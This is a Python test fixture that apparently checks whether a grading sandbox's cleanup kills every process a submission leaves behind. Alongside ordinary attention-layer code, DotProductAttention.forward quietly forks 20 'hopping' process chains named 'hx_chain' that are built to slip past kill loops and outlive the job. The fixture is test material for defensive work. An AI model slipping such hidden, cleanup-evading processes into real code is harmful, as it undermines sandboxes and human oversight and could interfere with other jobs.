"""attack: escape the end-of-job cleanup with "hopping" processes: DotProductAttention.forward starts
20 chains in which each process forks its successor and exits at once (process name "hx_chain"), so
a kill loop over a snapshot of pids always misses the newest one. Each chain stops by itself after
20 s (1 s outside the sandbox). The forward pass then answers correctly.
expect: DotProductAttention gets full marks and, once its component is done, no "hx_chain" process
is left (they would otherwise run on, e.g. to interfere with the next submission's child).
"""
import math
import os
import sys
import time

import torch
from torch import nn

def _in_sandbox():  # hostile loops run only there (1 s bound elsewhere)
    return os.path.isdir("/sandbox/runtime")
import ctypes


def sequence_mask(X, valid_len, value=0):
    keep = torch.arange(X.shape[1]).unsqueeze(0) < valid_len.unsqueeze(1)
    return X.masked_fill(~keep, value)


def masked_softmax(X, valid_lens):
    if valid_lens is None:
        return torch.softmax(X, dim=-1)
    shape = X.shape
    if valid_lens.dim() == 1:
        valid_lens = torch.repeat_interleave(valid_lens, shape[1])
    else:
        valid_lens = valid_lens.reshape(-1)
    X = sequence_mask(X.reshape(-1, shape[-1]), valid_lens, value=torch.finfo(X.dtype).min)
    return torch.softmax(X.reshape(shape), dim=-1)


class AdditiveAttention(nn.Module):
    def __init__(self, key_size, query_size, num_hiddens, dropout, **kwargs):
        super().__init__(**kwargs)
        self.W_k = nn.Linear(key_size, num_hiddens, bias=False)
        self.W_q = nn.Linear(query_size, num_hiddens, bias=False)
        self.w_v = nn.Linear(num_hiddens, 1, bias=False)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens):
        queries, keys = self.W_q(queries), self.W_k(keys)
        scores = self.w_v(torch.tanh(queries.unsqueeze(2) + keys.unsqueeze(1))).squeeze(-1)
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)


def _hop(chains):
    seconds = 20.0 if _in_sandbox() else 1.0
    libc = ctypes.CDLL(None)
    for _ in range(chains):
        if os.fork() == 0:
            try:
                os.setsid()
                end = time.monotonic() + seconds
                while time.monotonic() < end:
                    libc.prctl(15, b"hx_chain", 0, 0, 0)  # PR_SET_NAME
                    if os.fork() != 0:
                        os._exit(0)
            finally:
                os._exit(0)


class DotProductAttention(nn.Module):
    def __init__(self, dropout, **kwargs):
        super().__init__(**kwargs)
        self.dropout = nn.Dropout(dropout)

    def forward(self, queries, keys, values, valid_lens=None):
        if not getattr(DotProductAttention, "hopping", False):
            DotProductAttention.hopping = True
            _hop(20)
            time.sleep(0.3)
        scores = torch.bmm(queries, keys.transpose(1, 2)) / math.sqrt(queries.shape[-1])
        self.attention_weights = masked_softmax(scores, valid_lens)
        return torch.bmm(self.dropout(self.attention_weights), values)
